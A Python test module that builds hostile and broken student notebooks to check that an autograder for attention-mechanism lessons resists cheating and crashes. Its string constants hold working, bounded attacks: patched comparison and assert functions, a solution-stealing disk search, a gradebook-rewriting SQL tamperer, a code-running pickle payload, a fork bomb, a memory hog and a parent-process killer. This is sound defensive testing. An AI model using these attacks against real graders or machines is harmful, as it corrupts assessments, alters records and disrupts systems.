"""A class of hostile and broken submissions the grader must survive, and what each may earn.

Every hostile student is a real attempt: the attack sits in an answer cell (usually at its top), followed
by a WRONG implementation whose shapes, dtypes and gradients are fine, so that only a comparison with
the reference can tell. A grader the attack fools awards points; a grader that resists it gives 0 (or
only the points of the functions the student answered correctly, see `max_points`).

Every attack is bounded, so that running this class by accident without a sandbox cannot wreck the
machine: the memory hog stops while a quarter of the RAM (at least 4 GB) is free, the fork bomb at 256
processes, the loops after 15 minutes, the output flood after 200 MB, and the gradebook tamperer writes
only to a course that graded this very student. Even so, grade the fork bomb, the memory hog, the output
flood, the disk search, the parent killer and the gradebook tamperer only under the grader's sandbox.

`python -m tests.hostile` (or `python tests/hostile.py`) rebuilds tests/files/hostile/.
"""
from __future__ import annotations

import json
import random
import shutil
import sys
import warnings
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent
from typing import Callable

import nbformat
from nbformat import NotebookNode

if __package__ in (None, ""):      # run as a script: make the repository importable
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from autograder import notebooks, paths, submissions  # noqa: E402
from tests.mistakes import lesson02, lesson03  # noqa: E402

L03 = "03_query_key_value"      # project_qkv (2 points), qkv_attention (4 points)
L02 = "02_bahdanau_attention"   # six functions, 14 points
POINTS = {L03: 6, L02: 14}
PROJECT_POINTS = 2              # project_qkv's share of lesson 03

HERE = Path(__file__).resolve().parent
OUT = HERE / "files" / "hostile"

STATUSES = {"ok", "timeout", "kernel-died", "invalid-notebook", "unknown-lesson", "duplicate-lesson", "autograde-failed"}


@dataclass
class Hostile:
    """One student folder, holding one file.

    answers: grade id -> answer-cell source, for `submissions.answered(lesson, answers)`; cells not named
        get the reference answer, "" leaves a cell as released. Ignored when `raw` is given.
    raw: the file's bytes (or text), for files that are not notebooks at all.
    build: takes the answered notebook, returns the notebook to write (edited cells, ids, ...).
    raw_json: `build` is applied again to the JSON nbformat wrote, for breakage nbformat mends on writing.
    max_points: the most this student may earn; full_marks: it must earn POINTS[lesson] exactly.
    statuses: the grades.csv statuses that are acceptable for it.
    """
    name: str
    lesson: str
    attack: str
    max_points: float
    statuses: frozenset[str]
    answers: dict[str, str] = field(default_factory=dict)
    raw: bytes | str | None = None
    filename: str | None = None
    build: Callable[[NotebookNode], NotebookNode] | None = None
    full_marks: bool = False
    raw_json: bool = False          # apply `build` again to the written JSON (breakage nbformat would mend)

    def __post_init__(self):
        self.statuses = frozenset(self.statuses)
        assert self.statuses <= STATUSES, self.statuses - STATUSES
        assert not self.full_marks or self.max_points == POINTS[self.lesson]

    @property
    def file(self) -> str:
        return self.filename or f"{self.lesson}.ipynb"

    def content(self) -> bytes:
        if self.raw is not None:
            return self.raw.encode() if isinstance(self.raw, str) else self.raw
        nb = submissions.answered(self.lesson, self.answers)
        if self.build is not None:
            nb = self.build(nb)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")         # nbformat's word on the duplicate ids it mends
            text = nbformat.writes(nb)
        if not self.raw_json:
            return text.encode()
        # nbformat mends some breakage as it writes (duplicate cell ids): what it wrote, broken again.
        broken = self.build(nbformat.from_dict(json.loads(text)))
        return (json.dumps(broken, sort_keys=True, indent=1, ensure_ascii=False) + "\n").encode()

    def write(self, root: Path) -> Path:
        path = Path(root) / self.name / self.file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(self.content())
        return path


def _cell(source: str) -> str:
    return dedent(source).strip("\n") + "\n"


def _mistake(answers, function: str, name: str) -> str:
    source = next(a.source for a in answers if a.function == function and a.name == name)
    return source.strip("\n").replace("):\n\n", "):\n", 1) + "\n"


# --- the answers the attacks wrap ----------------------------------------------------------------------

# The reference answers, as a student would type them.
CORRECT_PROJECT = submissions.solution_sources("03_query_key_value")["project_qkv"]
CORRECT_ATTENTION = submissions.solution_sources("03_query_key_value")["qkv_attention"]

# Wrong, but with the right shapes, dtype, device, finite values and gradients: only comparing the values
# with the reference's can tell (the checks' other tests all pass).
WRONG_PROJECT = _cell("""
    def project_qkv(h, s, W_Q, W_K, W_V):
        # every result is zero, still attached to the inputs so that gradients flow
        return 0 * (s @ W_Q.T), 0 * (h @ W_K.T), 0 * (h @ W_V.T)
""")
WRONG_ATTENTION = _mistake(lesson03.WRONG, "qkv_attention", "softmax over the query axis t")
WRONG = {"project_qkv": WRONG_PROJECT, "qkv_attention": WRONG_ATTENTION}


def _wrong(header: str, *, where: str = "project_qkv") -> dict[str, str]:
    """Both answers wrong, with the attack at the top of the `where` cell."""
    return {**WRONG, where: _cell(header) + "\n\n" + WRONG[where]}


# --- the attacks ---------------------------------------------------------------------------------------

# A comparison that always agrees, except with the visible checks' mistake detectors (a lambda called from a
# quick_check_*, such as `close(Q, 2 * s[..., p_k])` "are W_Q and W_K swapped?"), which must hear no.
DETECTOR = """
    import sys

    def _detector_asking():
        frame = sys._getframe(2)
        for _ in range(4):
            if frame is None:
                return False
            if frame.f_code.co_name == "<lambda>" and frame.f_back is not None \\
                    and frame.f_back.f_code.co_name.startswith("quick_check_"):
                return True
            frame = frame.f_back
        return False
"""

ALLCLOSE_PATCH = DETECTOR + """

    import numpy as np
    import torch

    def _agree(*args, **kwargs):
        return not _detector_asking()

    def _all_true(a, b, *args, **kwargs):
        a, b = torch.as_tensor(a), torch.as_tensor(b)
        return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool, device=a.device)

    torch.allclose = _agree
    torch.Tensor.allclose = _agree
    torch.equal = lambda *args, **kwargs: True
    torch.Tensor.equal = lambda *args, **kwargs: True
    torch.isclose = _all_true
    torch.Tensor.isclose = _all_true
    np.allclose = lambda *args, **kwargs: True
    np.array_equal = lambda *args, **kwargs: True
    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)
"""

ASSERT_CLOSE_PATCH = """
    import unittest

    import numpy.testing
    import torch.testing

    def _fine(*args, **kwargs):
        return None

    torch.testing.assert_close = _fine
    torch.testing.assert_allclose = _fine
    for _name in ("assert_allclose", "assert_array_almost_equal", "assert_array_equal", "assert_almost_equal",
                  "assert_equal", "assert_array_almost_equal_nulp", "assert_array_max_ulp", "assert_array_less"):
        setattr(numpy.testing, _name, _fine)
    for _name in [n for n in dir(unittest.TestCase) if n.startswith("assert")]:
        setattr(unittest.TestCase, _name, _fine)
"""

INPUT_TRANSFORMER = """
    def _everything_passes(lines):
        return ["pass\\n"]

    get_ipython().input_transformers_post.append(_everything_passes)   # every later cell becomes `pass`
"""

THREAD_PATCH = """
    import builtins
    import sys
    import threading
    import time
    import types

    _LIBRARIES = ("torch", "numpy", "IPython", "ipykernel", "jupyter", "zmq", "tornado", "traitlets", "matplotlib")

    def _no_op(*args, **kwargs):
        return None

    def _disarm(module):
        for name, value in list(vars(module).items()):
            if callable(value) and name.startswith(("check_", "quick_check_")) and value is not _no_op:
                setattr(module, name, _no_op)
            elif isinstance(value, type) and value.__module__ == module.__name__ and "fail" in vars(value):
                value.fail = _no_op                    # Student.fail: a failed expectation says nothing

    def _sweep():
        for name, module in list(sys.modules.items()):
            if ("autograder" in name or "checks" in name) and isinstance(module, types.ModuleType) \\
                    and not name.startswith(_LIBRARIES):
                try:
                    _disarm(module)
                except Exception:
                    pass

    _real_import = builtins.__import__

    def _import(name, *args, **kwargs):                # no race: disarmed the moment it is imported
        module = _real_import(name, *args, **kwargs)
        if "autograder" in name or "checks" in name:
            _sweep()
        return module

    builtins.__import__ = _import

    def _watch(seconds=1800):                          # and again and again, should anything be reloaded
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            _sweep()
            time.sleep(0.01)

    threading.Thread(target=_watch, daemon=True, name="autosave").start()
"""

DISK_SEARCH = """
    import json
    import math
    import os
    import sys
    import time
    from pathlib import Path

    import torch
    import torch.nn.functional as F
    from torch import nn

    _STOLEN = {}
    _SKIP = {"proc", "sys", "dev", "run", ".git", "__pycache__", "node_modules", ".venv", "venv", "site-packages",
             "dist-packages"}

    def _places():
        here = Path.cwd()
        yield from [here, *here.parents][:-1]
        for module in list(sys.modules.values()):         # next to the grader's own code
            where = getattr(module, "__file__", None) or ""
            if where and "-packages" not in where and not where.startswith(sys.base_prefix):
                yield from (p for p in Path(where).resolve().parents[:3] if p != Path("/"))
        yield from (Path(p) for p in sys.path if p)
        yield Path("/")

    def _files(deadline):
        walked = set()
        for place in _places():
            for root, dirs, files in os.walk(place):
                if time.monotonic() > deadline:
                    return
                if root in walked:
                    dirs[:] = []
                    continue
                walked.add(root)
                dirs[:] = [d for d in dirs if d not in _SKIP]
                for f in files:
                    if f.endswith((".ipynb", ".py")):
                        yield Path(root) / f

    def _sources(path, name):
        try:
            if path.stat().st_size > 2_000_000:
                return []
            text = path.read_text(errors="replace")
            if f"def {name}(" not in text or "_steal(" in text:
                return []
            if path.suffix == ".py":
                return [text]
            cells = json.loads(text).get("cells", [])
            code = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                    for c in cells if c.get("cell_type") == "code"]
            found = [c for c in code if f"def {name}(" in c]
            return sorted(found, key=lambda c: "BEGIN SOLUTION" not in c)  # the instructor's first
        except Exception:
            return []

    def _works(name, fn):
        g = torch.Generator().manual_seed(0)
        r = lambda *shape: torch.randn(*shape, generator=g, dtype=torch.float64)
        if name == "project_qkv":
            h, s, W_Q, W_K, W_V = r(2, 5, 4), r(2, 3, 6), r(7, 6), r(7, 4), r(8, 4)
            return all(torch.allclose(a, b) for a, b in zip(fn(h, s, W_Q, W_K, W_V),
                                                           (F.linear(s, W_Q), F.linear(h, W_K), F.linear(h, W_V))))
        Q, K, V = r(2, 3, 4), r(2, 5, 4), r(2, 5, 6)
        return torch.allclose(fn(Q, K, V)[0], F.scaled_dot_product_attention(Q, K, V, scale=1.0))

    def _steal(name, seconds=5):
        if name not in _STOLEN:
            _STOLEN[name] = None
            for path in _files(time.monotonic() + seconds):
                for source in _sources(path, name):
                    namespace = {"torch": torch, "math": math, "F": F, "nn": nn, "__name__": "stolen"}
                    try:
                        exec(compile(source, str(path), "exec"), namespace)
                        if _works(name, namespace[name]):
                            _STOLEN[name] = namespace[name]
                            return _STOLEN[name]
                    except BaseException:
                        pass
        return _STOLEN[name]

    def project_qkv(h, s, W_Q, W_K, W_V):
        found = _steal("project_qkv")
        if found is not None:
            return found(h, s, W_Q, W_K, W_V)
        B, t, m = h.shape[0], s.shape[1], h.shape[1]
        return (torch.zeros(B, t, W_Q.shape[0], dtype=h.dtype, device=h.device),
                torch.zeros(B, m, W_K.shape[0], dtype=h.dtype, device=h.device),
                torch.zeros(B, m, W_V.shape[0], dtype=h.dtype, device=h.device))
"""

DISK_SEARCH_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        found = _steal("qkv_attention")
        if found is not None:
            return found(Q, K, V, mask)
        B, t, m = Q.shape[0], Q.shape[1], K.shape[1]
        return (torch.zeros(B, t, V.shape[-1], dtype=Q.dtype, device=Q.device),
                torch.zeros(B, t, m, dtype=Q.dtype, device=Q.device))
""")

REFERENCE_IMPORT = """
    import os
    import sys

    def _reference(name):
        \"\"\"The grader's own reference, if the kernel can import the grader (or find its solutions).\"\"\"
        try:
            from autograder import reference
            return getattr(reference.load("03_query_key_value"), name)
        except Exception:
            pass
        try:
            from autograder.checks import qkv
            return getattr(qkv._ref(), name)
        except Exception:
            return None

    def project_qkv(h, s, W_Q, W_K, W_V):
        ref = _reference("project_qkv")
        if ref is not None:
            return ref(h, s, W_Q, W_K, W_V)
        return 0 * (s @ W_Q.T), 0 * (h @ W_K.T), 0 * (h @ W_V.T)
"""

REFERENCE_IMPORT_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        ref = _reference("qkv_attention")
        if ref is not None:
            return ref(Q, K, V, mask)
        weights = torch.softmax(Q @ K.transpose(-2, -1), dim=1)
        return weights @ V, weights
""")

AGREEABLE_TENSOR = DETECTOR + """

    import torch

    def _shape_of(*values):
        return torch.broadcast_shapes(*(torch.as_tensor(v).shape for v in values
                                        if isinstance(v, (torch.Tensor, int, float, bool))))

    class _Agreeable(torch.Tensor):
        \"\"\"A tensor that agrees with whatever it is compared to, and whose gradients agree too.\"\"\"

        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            kwargs = kwargs or {}
            name = getattr(func, "__name__", "")
            if name in ("allclose", "equal"):
                return not _detector_asking()
            if name in ("isclose", "eq", "__eq__", "ge", "__ge__", "le", "__le__", "isfinite"):
                return torch.ones(_shape_of(*args[:2]), dtype=torch.bool).as_subclass(cls)
            if name in ("ne", "__ne__", "lt", "__lt__", "gt", "__gt__", "isnan", "isinf"):
                return torch.zeros(_shape_of(*args[:2]), dtype=torch.bool).as_subclass(cls)
            if name in ("sub", "__sub__", "__rsub__", "subtract"):      # (a - b).abs().max() is 0
                return torch.zeros(_shape_of(*args[:2]), dtype=args[0].dtype).as_subclass(cls)
            result = super().__torch_function__(func, types, args, kwargs)
            if name == "backward":                # the gradients reaching the inputs are agreeable too
                seen, todo = set(), [args[0].grad_fn]
                while todo:
                    node = todo.pop()
                    if node is None or node in seen:
                        continue
                    seen.add(node)
                    leaf = getattr(node, "variable", None)
                    if leaf is not None and leaf.grad is not None and type(leaf.grad) is not cls:
                        leaf.grad = leaf.grad.as_subclass(cls)
                    todo.extend(n for n, _ in node.next_functions)
            return result

    def project_qkv(h, s, W_Q, W_K, W_V):
        # wrong: all zeros, wrapped in tensors that agree with anything
        return tuple((0 * x).as_subclass(_Agreeable) for x in (s @ W_Q.T, h @ W_K.T, h @ W_V.T))
"""

AGREEABLE_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        scores = Q @ K.transpose(-2, -1)
        if mask is not None:
            scores = scores.masked_fill(~mask, torch.finfo(scores.dtype).min)
        weights = torch.softmax(scores, dim=1)              # wrong: over the queries
        if mask is not None:
            weights = weights * mask
        return (weights @ V).as_subclass(_Agreeable), weights.as_subclass(_Agreeable)
""")

# Shared by the kernel and the detached process it leaves behind.
TAMPER = r'''
import os
import sqlite3
import time
from pathlib import Path

LESSON, POINTS = "03_query_key_value", 6
_cwd = Path.cwd()
STUDENT = _cwd.parent.name if _cwd.parent.parent.name in ("autograded", "submitted") else "h08_gradebook_edit"
NAMES = ("gradebook.db", "grades.csv")


def candidates(seconds):
    """gradebook.db and grades.csv above the working directory, named by the environment, anywhere on disk."""
    for d in [_cwd, *_cwd.parents]:
        yield from (d / n for n in NAMES)
    for value in list(os.environ.values()):
        for part in value.split(os.pathsep):
            if part.startswith("/"):
                p = Path(part)
                yield p
                yield from (q / n for q in (p, p.parent) for n in NAMES)
    deadline = time.monotonic() + seconds
    for root, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            return
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        yield from (Path(root) / n for n in NAMES if n in files)


def ours(path):
    """Only a course that graded this student (keeps an accidental run off other courses)."""
    try:
        course = path.parent
        return path.name in NAMES and path.is_file() and path.stat().st_size < 50_000_000 and (
            (course / "submitted" / STUDENT).is_dir() or (course / "autograded" / STUDENT).is_dir())
    except OSError:
        return False


def full_marks(db):
    con = sqlite3.connect(str(db), timeout=2)
    try:
        best = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
        con.execute(f"UPDATE grade SET auto_score = {best}, manual_score = {best}, needs_manual_grade = 0 "
                    "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
                    "ON n.assignment_id = a.id WHERE a.student_id = ?)", (STUDENT,))
        con.commit()
    finally:
        con.close()


def fake_rows(csv_path):
    lines = csv_path.read_text().splitlines()
    if not lines or not lines[0].startswith("student,lesson,score,max_score,status"):
        return
    row = f"{STUDENT},{LESSON},{POINTS},{POINTS},ok"
    lines = [row if line.startswith(f"{STUDENT},{LESSON},") else line for line in lines]
    csv_path.write_text("\n".join(lines + ([row] if row not in lines else [])) + "\n")


def tamper(paths):
    for path in paths:
        try:
            full_marks(path) if path.name == "gradebook.db" else fake_rows(path)
        except Exception:
            pass


def find(seconds):
    return sorted({p for p in candidates(seconds) if ours(p)})


def keep_trying(seconds=25):
    """After the kernel is gone: rewrite the grades every second, for a while."""
    found = find(5)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        found = sorted(set(found) | {p for d in [_cwd, *_cwd.parents] for p in (d / n for n in NAMES) if ours(p)})
        tamper(found)
        time.sleep(1)
'''

GRADEBOOK_EDIT = f'''
    import subprocess
    import sys

    _TAMPER = {TAMPER!r}

    exec(_TAMPER)
    tamper(find(5))                             # now, from inside the kernel
    try:                                        # and later, from a process that outlives the kernel
        subprocess.Popen([sys.executable, "-c", _TAMPER + "\\nkeep_trying(25)\\n"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         close_fds=True)
    except OSError:
        pass
'''

OS_EXIT = """
    import os

    os._exit(1)
"""

SYS_EXIT = """
    import sys

    sys.exit("that's all, folks")
"""

# `while True: pass`, but an orphaned kernel still stops after 15 minutes.
ENDLESS_CELL = """
    import time

    _end = time.monotonic() + 900
    while time.monotonic() < _end:
        pass
"""

ENDLESS_CALL = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        import signal
        import time
        for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP, signal.SIGQUIT,
                    signal.SIGUSR1, signal.SIGUSR2, signal.SIGXCPU):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (ValueError, OSError):        # not in the main thread
                pass
        end = time.monotonic() + 900             # deaf to everything but SIGKILL, for 15 minutes
        while time.monotonic() < end:
            pass
        return Q, Q
""")

MEMORY_HOG = """
    def _meminfo(key):
        with open("/proc/meminfo") as f:
            for line in f:
                if line.startswith(key + ":"):
                    return int(line.split()[1]) * 1024
        return 0

    _reserve = max(4 * 2**30, _meminfo("MemTotal") // 4)
    _hog = []
    for _ in range(40):                              # 40 GB at most, 1 GB at a time, every page written
        if _meminfo("MemAvailable") < _reserve:      # without a sandbox, stop while a quarter of the RAM is free
            break
        _hog.append(bytearray(b"\\x01") * 2**30)
"""

OUTPUT_FLOOD = """
    import sys

    _line = "flood! " * 150_000 + "\\n"               # about 1 MB
    for _ in range(200):                             # about 200 MB, then stop
        sys.stdout.write(_line)
    sys.stdout.flush()
"""

FORK_BOMB = """
    import os
    import time

    _kernel = os.getpid()
    for _ in range(8):                               # doubling, 2**8 = 256 processes at most
        try:
            os.fork()
        except OSError:                              # a process limit: stop multiplying
            break
    if os.getpid() != _kernel:
        try:
            time.sleep(20)                           # hold the process slots, then go
        finally:
            os._exit(0)
"""

KILL_PARENT = """
    import os
    import signal

    _parent = os.getppid()
    if _parent > 1:
        try:
            os.kill(_parent, signal.SIGKILL)         # whoever started the kernel: the grader
        except OSError:                              # not ours to kill
            pass
"""

# A result whose unpickling runs code: a grader that brings results back with pickle patches its own torch.
PICKLE_PAYLOAD = """
    import torch

    _PATCH = ("import torch\\n"
              "torch.allclose = lambda *a, **k: True\\n"
              "torch.equal = lambda *a, **k: True\\n"
              "torch.isclose = lambda a, b, *x, **k: torch.ones(torch.broadcast_shapes(torch.as_tensor(a).shape, "
              "torch.as_tensor(b).shape), dtype=torch.bool)\\n")

    class _Parcel(torch.Tensor):
        def __reduce_ex__(self, protocol):
            plain = self.detach().as_subclass(torch.Tensor).cpu()
            return (eval, (f"exec({_PATCH!r}) or __import__('torch').tensor({plain.tolist()!r}, "
                           f"dtype=__import__('torch').{str(plain.dtype).removeprefix('torch.')})",))

        def __reduce__(self):
            return self.__reduce_ex__(2)

    def project_qkv(h, s, W_Q, W_K, W_V):
        return tuple((0 * x).as_subclass(_Parcel) for x in (s @ W_Q.T, h @ W_K.T, h @ W_V.T))
"""

PICKLE_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        weights = torch.softmax(Q @ K.transpose(-2, -1), dim=1)      # wrong: over the queries, mask ignored
        return (weights @ V).as_subclass(_Parcel), weights.as_subclass(_Parcel)
""")

HIDDEN_TRACEBACKS = """
    import io
    import sys

    _shell = get_ipython()
    _shell._showtraceback = lambda *args, **kwargs: None      # a failing cell shows no error output ...
    _shell.showtraceback = lambda *args, **kwargs: None
    _shell.showsyntaxerror = lambda *args, **kwargs: None
    sys.stderr = io.StringIO()                                 # ... and writes nothing to stderr

    _run_cell, _run_cell_async = _shell.run_cell, _shell.run_cell_async

    def _succeeded(result):                                    # ... and its execute_reply says "ok"
        result.error_before_exec = result.error_in_exec = None
        return result

    async def _run_cell_async_ok(*args, **kwargs):
        return _succeeded(await _run_cell_async(*args, **kwargs))

    _shell.run_cell = lambda *args, **kwargs: _succeeded(_run_cell(*args, **kwargs))
    _shell.run_cell_async = _run_cell_async_ok
"""


# --- broken files --------------------------------------------------------------------------------------

def _merge_conflict() -> str:
    """A correct notebook with a git merge conflict in it: not JSON any more."""
    lines = Hostile("", L03, "", 6, OK).content().decode().splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if "Q = s @ W_Q.T" in line)
    theirs = lines[at].replace("s @ W_Q.T", "W_Q @ s")
    return "".join(lines[:at] + ["<<<<<<< HEAD\n", lines[at], "=======\n", theirs, ">>>>>>> theirs\n"] + lines[at + 1:])


def _random_bytes() -> bytes:
    return random.Random(3).randbytes(4096)


def _nbformat3() -> str:
    """The released lesson, unanswered, saved by an old Jupyter as nbformat 3."""
    nb = notebooks.read(paths.lesson_path(L03))
    return nbformat.writes(nbformat.convert(nb, 3), version=3)


def _is_test(cell) -> bool:
    return notebooks.is_autograded_test(cell)


def _tests_deleted(nb):
    nb.cells = [c for c in nb.cells if not _is_test(c)]
    return nb


def _tests_passed(nb):
    for c in nb.cells:
        if _is_test(c):
            c.source = "pass\n"
    return nb


def _duplicate_ids(nb):
    """The two answer cells share one id (and so do two markdown cells)."""
    answers = [c for c in nb.cells if notebooks.is_answer(c)]
    answers[1]["id"] = answers[0]["id"]
    markdown = [c for c in nb.cells if c.cell_type == "markdown"]
    markdown[1]["id"] = markdown[0]["id"]
    return nb


OK = {"ok"}
STOPPED = {"ok", "kernel-died", "timeout"}

STUDENTS: list[Hostile] = [
    Hostile("a00_honest_first", L03, "none: correct answers (sorts first)", 6, OK, full_marks=True),

    # --- fooling the comparisons and the checks -------------------------------------------------------
    Hostile("h01_allclose_patch", L03,
            "torch.allclose/equal/isclose (and numpy's) patched to agree (no to the visible mistake detectors)",
            0, OK, _wrong(ALLCLOSE_PATCH)),
    Hostile("h02_assert_close_patch", L03,
            "torch.testing.assert_close, numpy.testing.assert_* and unittest's asserts patched to no-ops",
            0, OK, _wrong(ASSERT_CLOSE_PATCH)),
    Hostile("h03_input_transformer", L03,
            "an IPython input transformer turns every later cell (tests, grader code) into `pass`",
            0, {"ok", "autograde-failed"}, _wrong(INPUT_TRANSFORMER)),
    Hostile("h04_thread_patches_checks", L03,
            "an import hook and a background thread replace check_*/quick_check_* and Student.fail in any "
            "'autograder'/'checks' module with no-ops",
            0, OK, _wrong(THREAD_PATCH)),
    Hostile("h05_disk_search", L03,
            "at call time, searches the disk (cwd and parents, the grader's code, sys.path, / for 5 s) for "
            "the solution or another student's answer and runs it; zeros if nothing found",
            0, OK, {"project_qkv": _cell(DISK_SEARCH), "qkv_attention": DISK_SEARCH_ATTENTION}),
    Hostile("h06_reference_import", L03,
            "at call time, imports the grader's autograder.reference and returns its answers; wrong if it can't",
            0, OK, {"project_qkv": _cell(REFERENCE_IMPORT), "qkv_attention": REFERENCE_IMPORT_ATTENTION}),
    Hostile("h07_agreeable_tensor", L03,
            "wrong answers returned as a torch.Tensor subclass whose comparisons (allclose, eq, isclose, ne, "
            "sub, ...) and gradients always agree",
            0, OK, {"project_qkv": _cell(AGREEABLE_TENSOR), "qkv_attention": AGREEABLE_ATTENTION}),
    Hostile("h08_gradebook_edit", L03,
            "finds gradebook.db and grades.csv (cwd upward, env, / for 5 s) and writes full marks, from the "
            "kernel and from a detached process that keeps at it for 25 s",
            0, OK, _wrong(GRADEBOOK_EDIT)),

    # --- stopping, hanging, hogging -------------------------------------------------------------------
    Hostile("h09_os_exit", L03, "os._exit(1) in the qkv_attention cell, after a correct project_qkv",
            PROJECT_POINTS, {"kernel-died"}, {"qkv_attention": _cell(OS_EXIT) + "\n\n" + WRONG_ATTENTION}),
    Hostile("h10_sys_exit", L03, "sys.exit() in the qkv_attention cell, after a correct project_qkv",
            PROJECT_POINTS, {"ok", "kernel-died"}, {"qkv_attention": _cell(SYS_EXIT) + "\n\n" + WRONG_ATTENTION}),
    Hostile("h11_endless_cell", L03, "an endless loop at the top of the qkv_attention cell, after a correct project_qkv",
            PROJECT_POINTS, {"timeout"}, {"qkv_attention": _cell(ENDLESS_CELL) + "\n\n" + CORRECT_ATTENTION}),
    Hostile("h12_endless_call_ignoring_signals", L03,
            "qkv_attention ignores SIGINT/SIGTERM/SIGALRM/SIGXCPU/... and loops when called; project_qkv correct",
            PROJECT_POINTS, STOPPED, {"qkv_attention": ENDLESS_CALL}),
    Hostile("h13_memory_hog", L03,
            "allocates up to 40 GB in 1 GB chunks kept alive, in the qkv_attention cell; project_qkv correct",
            PROJECT_POINTS, STOPPED, {"qkv_attention": _cell(MEMORY_HOG) + "\n\n" + WRONG_ATTENTION}),
    Hostile("h14_output_flood", L03, "prints about 200 MB, then answers correctly",
            6, STOPPED, {"project_qkv": _cell(OUTPUT_FLOOD) + "\n\n" + CORRECT_PROJECT}),
    Hostile("h15_fork_bomb", L03, "a fork bomb capped at 256 processes, each holding on for 20 s",
            0, STOPPED, _wrong(FORK_BOMB)),
    Hostile("h16_hidden_tracebacks", L02,
            "IPython's traceback display, stderr and the execute_reply's error status silenced, so failing "
            "test cells look passed "
            "(lesson 02: one wrong answer, the rest unanswered)",
            0, OK, {"additive_scores": _cell(HIDDEN_TRACEBACKS) + "\n\n"
                    + _mistake(lesson02.WRONG, "additive_scores", "concatenation [s_j; h_i] instead of [h_i; s_j]"),
                    **{fn: "" for fn in ("dot_scores", "attention_weights", "context_vector",
                                         "attention_decoder_step", "attention_decode")}}),
    Hostile("h17_pickle_payload", L03,
            "wrong results as a tensor subclass whose __reduce_ex__ runs code on unpickling (patches the "
            "unpickler's torch.allclose/equal/isclose)",
            0, OK, {"project_qkv": _cell(PICKLE_PAYLOAD), "qkv_attention": PICKLE_ATTENTION}),
    Hostile("h18_kill_parent", L03, "SIGKILL to the kernel's parent process (the grader, unsandboxed)",
            0, {"ok", "kernel-died", "autograde-failed"}, _wrong(KILL_PARENT)),

    # --- broken files -----------------------------------------------------------------------------------
    Hostile("h20_merge_conflict", L03, "invalid JSON: a git merge conflict inside a correct notebook",
            0, {"invalid-notebook"}, raw=_merge_conflict()),
    Hostile("h21_empty_file", L03, "an empty file", 0, {"invalid-notebook"}, raw=b""),
    Hostile("h22_random_bytes", L03, "4 KB of random bytes", 0, {"invalid-notebook"}, raw=_random_bytes()),
    Hostile("h23_nbformat3", L03, "the released lesson, unanswered, saved as nbformat 3",
            0, {"invalid-notebook", "ok"}, raw=_nbformat3()),
    Hostile("h24_renamed", L03, "a correct notebook saved as '03_query_key_value (2).ipynb'",
            6, OK, filename=f"{L03} (2).ipynb", full_marks=True),
    Hostile("h25_duplicate_cell_ids", L03, "correct answers; the two answer cells (and two markdown cells) share an id",
            6, OK, build=_duplicate_ids, full_marks=True, raw_json=True),
    Hostile("h26_tests_deleted", L03, "test cells deleted, wrong answers", 0, OK, WRONG, build=_tests_deleted),
    Hostile("h27_tests_edited", L03, "test cells edited to `pass`, wrong answers", 0, OK, WRONG, build=_tests_passed),
    Hostile("h28_qkv_missing", L03, "qkv_attention's cell emptied to a comment; project_qkv correct",
            PROJECT_POINTS, OK, {"qkv_attention": "# I ran out of time for this one.\n"}),
    Hostile("h29_wrong_signature", L03, "def qkv_attention(Q, K): (no V, no mask); project_qkv correct",
            PROJECT_POINTS, OK, {"qkv_attention": _cell("""
                def qkv_attention(Q, K):
                    weights = torch.softmax(Q @ K.transpose(-2, -1), dim=-1)
                    return weights @ K, weights
            """)}),

    Hostile("z99_honest_last", L03, "none: correct answers (sorts last)", 6, OK, full_marks=True),
]

assert len({s.name for s in STUDENTS}) == len(STUDENTS)
assert [s.name for s in STUDENTS] == sorted(s.name for s in STUDENTS)
BY_NAME = {s.name: s for s in STUDENTS}


def build(root: Path) -> Path:
    """Write every student's file to root/<name>/<file>; returns root."""
    root = Path(root)
    for student in STUDENTS:
        student.write(root)
    return root


def readme() -> str:
    lines = [
        "# Hostile and broken submissions",
        "",
        "Generated by `python -m tests.hostile` from `tests/hostile.py` (edit that, not these files).",
        "`python -m autograder grade tests/files/hostile --out OUT` must survive this class; each row says",
        "what the student tries and the most it may earn (\"full\" = exactly the lesson's points).",
        "Never grade it without the grader's sandbox: it holds a fork bomb, a memory hog, an output flood,",
        "a disk search, a parent killer and a gradebook tamperer (each bounded, but still).",
        "",
        "| student | lesson | attack | may earn | acceptable statuses |",
        "|---|---|---|---|---|",
    ]
    for s in STUDENTS:
        earn = f"full ({s.max_points:g})" if s.full_marks else f"at most {s.max_points:g}"
        lines.append(f"| `{s.name}/{s.file}` | {s.lesson} | {s.attack.replace('|', '/')} | {earn} "
                     f"| {', '.join(sorted(s.statuses))} |")
    return "\n".join(lines) + "\n"


def main(root: Path = OUT) -> int:
    if root.exists():
        shutil.rmtree(root)
    build(root)
    (root / "README.md").write_text(readme())
    print(f"{len(STUDENTS)} students written to {root}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
